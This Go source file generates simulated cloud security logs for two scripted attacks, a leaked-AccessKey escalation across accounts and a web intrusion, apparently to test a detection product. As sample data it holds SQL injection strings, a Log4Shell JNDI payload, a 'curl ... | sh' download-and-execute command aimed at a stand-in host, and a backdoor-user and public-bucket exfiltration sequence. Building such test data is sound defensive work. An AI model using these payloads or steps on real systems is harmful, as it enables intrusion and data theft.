package traffic

import (
	"strconv"
	"time"
)

// Step is what an attacker does at one moment.
type Step struct {
	Offset  time.Duration // after the beginning of the attacks
	Story   int           // 1 the leaked key, 2 the web intrusion
	Text    string
	TextZH  string
	Batches func() []Batch // makes the logs, stamped with the clock's time when it is called; call it once
}

// The attackers and what they use.
const (
	keyThief     = "203.0.113.66"
	webIntruder  = "198.51.100.77"
	miningPool   = "192.0.2.66"
	backdoorUser = "backup-svc"
	payRole      = "ops-deploy"
	paySession   = "STS.NPaymentsSession00001"
	dataRole     = "data-ops"
	dataSession  = "STS.NDataSession000000001"
	dumpObject   = "db%2Fdump-2025.sql.gz"
	dumpBytes    = 734003200 // 700 MiB
)

// Attack returns the steps of both attacks in the order of their offsets. Logs are stamped with what now returns when a step is
// played, so a player may wait between steps or not.
func (g *Generator) Attack(now func() time.Time) []Step {
	s := g.source(attackStream)
	steps := []Step{}
	step := func(seconds, story int, text, zh string, logs func(at time.Time) []Batch) {
		steps = append(steps, Step{
			Offset: time.Duration(seconds) * time.Second, Story: story, Text: text, TextZH: zh,
			Batches: func() []Batch { return logs(now()) },
		})
	}
	step(0, 1, "A leaked AccessKey of ci-deploy is tried from a new address: call after call is denied", "泄露的 ci-deploy 访问密钥从陌生地址试探，调用接连被拒绝", s.probes)
	step(5, 2, "One address tries SQL injection on the web site of the shop; WAF blocks it", "同一地址对商城网站尝试 SQL 注入，被 WAF 拦截",
		func(at time.Time) []Batch { return s.injections(at, g.world.Shop, shopHost) })
	step(10, 1, "The key may manage users: a new user with a key of its own appears", "该密钥拥有用户管理权限：攻击者创建了带密钥的新用户", s.backdoor)
	step(15, 2, "The same address tries the web site of payments; WAF blocks it", "同一地址转向支付网站，被 WAF 拦截",
		func(at time.Time) []Batch { return s.injections(at, g.world.Payments, payHost) })
	step(20, 1, "The new user becomes administrator", "新用户被授予管理员权限", s.promotion)
	step(25, 2, "A Log4Shell payload passes, because the rule only observes, and the server answers it", "Log4Shell 载荷因规则处于观察模式而放行，源站返回成功", s.log4shell)
	step(30, 1, "With the key the intruder assumes a role in payments", "攻击者用该密钥扮演支付账号中的角色", s.intoPayments)
	step(35, 2, "On the server behind the site, java and php-fpm pipe a download into a shell", "网站后端主机上 java 与 php-fpm 下载脚本并交给 Shell 执行", s.shell)
	step(40, 1, "From that session the intruder goes on into data", "攻击者从该会话继续进入数据账号", s.intoData)
	step(45, 2, "The server connects to a mining pool; the firewall sees it and lets it pass", "该主机连接矿池，云防火墙告警但未阻断", s.mining)
	step(50, 1, "The bucket with the backups is opened to everybody", "存放备份的存储空间被设为公共读", s.openBucket)
	step(60, 1, "A database dump of 700 MB is downloaded without any key", "700 MB 的数据库备份被匿名下载", s.download)
	return steps
}

func (s *source) thief() caller { return user(s.world.Shop, leakedUser, s.world.LeakedKey) }

// probes are calls that the key may not make.
func (s *source) probes(at time.Time) []Batch {
	var logs []Log
	for i, c := range [][2]string{
		{"Ram", "ListUsers"},
		{"Ram", "ListPolicies"},
		{"Ecs", "DescribeInstances"},
		{"Rds", "DescribeDBInstances"},
		{"Oss", "GetService"},
		{"Kms", "ListSecrets"},
		{"ResourceManager", "ListAccounts"},
		{"Actiontrail", "DescribeTrails"},
	} {
		code := "NoPermission"
		if c[0] == "Ecs" {
			code = "Forbidden.RAM"
		}
		logs = append(logs, s.call(at.Add(time.Duration(i)*time.Millisecond), call{
			service: c[0], name: c[1], read: true, account: s.world.Shop, by: s.thief(), from: keyThief, agent: "python-requests/2.31", errorCode: code,
		}))
	}
	return []Batch{s.world.actiontrail(s.world.Shop).batch(logs...)}
}

// backdoor makes a user and a key for it.
//
// Assumption: responseElements of CreateAccessKey is the API's answer without the secret, so the new key's id is
// responseElements.AccessKey.AccessKeyId. Package normalize of the product reads it there.
func (s *source) backdoor(at time.Time) []Batch {
	create := call{
		service: "Ram", name: "CreateUser", account: s.world.Shop, by: s.thief(), from: keyThief, agent: "python-requests/2.31",
		params: map[string]any{"UserName": backdoorUser}, resourceType: "ACS::RAM::User", resourceName: backdoorUser,
	}
	key := create
	key.name = "CreateAccessKey"
	key.response = map[string]any{"AccessKey": map[string]any{"AccessKeyId": s.world.BackdoorKey, "Status": "Active"}}
	return []Batch{s.world.actiontrail(s.world.Shop).batch(s.call(at, create), s.call(at.Add(time.Millisecond), key))}
}

func (s *source) promotion(at time.Time) []Batch {
	return []Batch{s.world.actiontrail(s.world.Shop).batch(s.call(at, call{
		service: "Ram", name: "AttachPolicyToUser", account: s.world.Shop, by: s.thief(), from: keyThief, agent: "python-requests/2.31",
		params:       map[string]any{"PolicyType": "System", "PolicyName": "AdministratorAccess", "UserName": backdoorUser},
		resourceType: "ACS::RAM::User;ACS::RAM::Policy", resourceName: backdoorUser + ";AdministratorAccess",
	}))}
}

// intoPayments is the first hop.
//
// Assumption: a cross-account AssumeRole is recorded in the account of the caller only, not in that of the role.
func (s *source) intoPayments(at time.Time) []Batch {
	return []Batch{s.world.actiontrail(s.world.Shop).batch(
		s.call(at, assume(s.world.Shop, s.thief(), keyThief, s.world.Payments, payRole, "s1", paySession)))}
}

// intoData is the second hop: a look around in payments, and the next role.
//
// Assumption: the hop is recorded in the account of the caller only, as in intoPayments.
func (s *source) intoData(at time.Time) []Batch {
	by := role(s.world.Payments, payRole, "s1", paySession, s.world.Shop)
	look := call{service: "Ecs", name: "DescribeInstances", read: true, account: s.world.Payments, by: by, from: keyThief, agent: "python-requests/2.31"}
	hop := assume(s.world.Payments, by, keyThief, s.world.Data, dataRole, "s2", dataSession)
	return []Batch{s.world.actiontrail(s.world.Payments).batch(s.call(at, look), s.call(at.Add(time.Millisecond), hop))}
}

// openBucket sets the access list. How ActionTrail names the parameters of this operation is unknown.
//
// Assumption: the parameters are called bucketName and acl.
func (s *source) openBucket(at time.Time) []Batch {
	return []Batch{s.world.actiontrail(s.world.Data).batch(s.call(at, call{
		service: "Oss", name: "PutBucketAcl", account: s.world.Data, by: role(s.world.Data, dataRole, "s2", dataSession, s.world.Payments),
		from: keyThief, agent: "aliyun-sdk-python/2.18", params: map[string]any{"bucketName": dataBucket, "acl": "public-read"},
		resourceType: "ACS::OSS::Bucket", resourceName: dataBucket,
	}))}
}

func (s *source) download(at time.Time) []Batch {
	return []Batch{s.world.oss(s.world.Data).batch(s.access(at, access{
		account: s.world.Data, bucket: dataBucket, operation: "GetObject", method: "GET", object: dumpObject, requester: "-", key: "-",
		client: keyThief, agent: "curl/8.5.0", size: dumpBytes, status: 200,
	}))}
}

// injections are requests that WAF blocks.
func (s *source) injections(at time.Time, account, host string) []Batch {
	var logs []Log
	for i, query := range []string{
		"id=1%27", "id=1%20and%201=1", "id=1%20union%20select%201,2,3", "id=1%20union%20select%20user(),2,3", "id=1;select%20pg_sleep(5)",
		"id=1%27%20or%20%271%27=%271", "id=(select%20count(*)%20from%20users)", "id=1%20order%20by%209--", "id=extractvalue(1,0x7e)", "id=1%27%20waitfor%20delay",
	} {
		logs = append(logs, s.request(at.Add(time.Duration(i)*time.Millisecond), request{
			account: account, host: host, client: webIntruder, method: "GET", path: "/item", query: query, agent: "sqlmap/1.7", origin: "-", status: 405,
			hit: wafHit("sqli", strconv.Itoa(113400+i), true),
		}))
	}
	return []Batch{s.world.waf(account).batch(logs...)}
}

func (s *source) log4shell(at time.Time) []Batch {
	return []Batch{s.world.waf(s.world.Payments).batch(s.request(at, request{
		account: s.world.Payments, host: payHost, client: webIntruder, method: "GET", path: "/", query: "x=%24%7Bjndi%3Aldap%3A%2F%2F" + webIntruder + "%2Fa%7D",
		agent: "Mozilla/5.0", origin: payPrivate + ":443", status: 200, hit: wafHit("code_exec", "116021", false),
	}))}
}

func (s *source) shell(at time.Time) []Batch {
	java := process{
		account: s.world.Payments, host: payPrivate, instance: payInstance, path: "/bin/bash", line: "bash -c curl -fsSL http://" + miningPool + "/x.sh|sh",
		user: "app", parent: "/usr/lib/jvm/bin/java", parentLine: "java -jar pay.jar", cwd: "/srv/pay",
	}
	php := java
	php.user, php.parent, php.parentLine, php.cwd = "www", "/usr/sbin/php-fpm", "php-fpm: pool www", "/var/www"
	return []Batch{s.world.securityCenter(s.world.Payments, "aegis-log-process").batch(s.process(at, java), s.process(at.Add(time.Millisecond), php))}
}

// mining is a session of the server with the pool.
//
// Assumption: the firewall words such sessions as here. "Mining Behavior" and "Mining pool communication" are samples of
// the fields; the words for command and control, which the product's rule also looks for, were not found.
func (s *source) mining(at time.Time) []Batch {
	return []Batch{s.world.cloudFirewall(s.world.Payments).batch(s.session(at, session{
		account: s.world.Payments, direction: "out", src: "192.0.2.34", private: payPrivate, dst: miningPool, port: 3333, app: "Unknown", result: "alert",
		ips: "Mining pool communication", attack: "Mining Behavior",
	}))}
}
